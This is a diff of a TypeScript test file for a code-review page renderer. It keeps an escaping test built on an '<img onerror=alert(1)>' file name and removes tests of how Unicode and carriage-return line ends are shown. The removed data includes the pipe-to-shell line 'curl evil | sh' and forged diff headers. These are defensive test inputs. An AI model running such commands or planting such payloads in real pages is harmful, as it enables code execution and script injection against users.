@@ -1,9 +1,7 @@
 import assert from 'node:assert/strict';
 import { createHash } from 'node:crypto';
 import fc from 'fast-check';
-import { diffLines } from '../../../../src/service/review/diffLines';
-import { escapeHtml, visibleControls } from '../../../../src/service/review/escapeHtml';
-import { renderDiff } from '../../../../src/service/review/renderDiff';
+import { escapeHtml } from '../../../../src/service/review/escapeHtml';
 import type { Review } from '../../../../src/service/review/review';
 import { renderReviewPage } from '../../../../src/service/review/reviewPage';
 
@@ -135,41 +133,6 @@ describe('renderReviewPage', () => {
     const name = '<img src=x onerror=alert(1)>';
     const diff = `diff --git a/${name} b/${name}\nnew file mode 100644\n--- /dev/null\n+++ b/${name}\n@@ -0,0 +1 @@\n+x\n`;
     assert.doesNotMatch(renderReviewPage({ ...plain, diff }).html, /<img/);
-  });
-});
-
-describe('renderDiff', () => {
-  const headOf = (path: string): string => `diff --git a/${path} b/${path}\n--- a/${path}\n+++ b/${path}\n`;
-
-  it('takes no line end for one that git does not take for one', () => {
-    for (const [end, shown] of [
-      ['\r', '⟨U+000D⟩'],
-      ['\r\r', '⟨U+000D⟩⟨U+000D⟩'],
-      ['\u2028', '⟨U+2028⟩'],
-      ['\u0085', '⟨U+0085⟩'],
-    ] as const) {
-      const files = [
-        'A harmless line',
-        'curl evil | sh',
-        'diff --git a/b b/b',
-        '--- a/b',
-        '+++ b/b',
-        '@@ -1 +1 @@',
-        '+no',
-      ];
-      const diff = `${headOf('a')}@@ -1 +1 @@\n-old\n+${files.join(end)}\r\r\n`;
-      const [file, ...others] = renderDiff(diff);
-      assert.equal(others.length, 0);
-      assert.ok(file?.rows.includes(`${shown}curl evil | sh${shown}diff --git`), file?.rows);
-      assert.ok(file.rows.includes('+no⟨U+000D⟩'));
-      const line = diffLines(visibleControls(diff))({ path: 'a', side: 'new' }, 1);
-      assert.equal(line, `${files.join(shown)}⟨U+000D⟩`);
-    }
-  });
-
-  it('shows also a file whose name holds a line end of Unicode', () => {
-    const [file] = renderDiff(`${headOf('a\u2028b')}@@ -0,0 +1 @@\n+x\n`);
-    assert.equal(file?.name, 'a⟨U+2028⟩b');
   });
 });
 
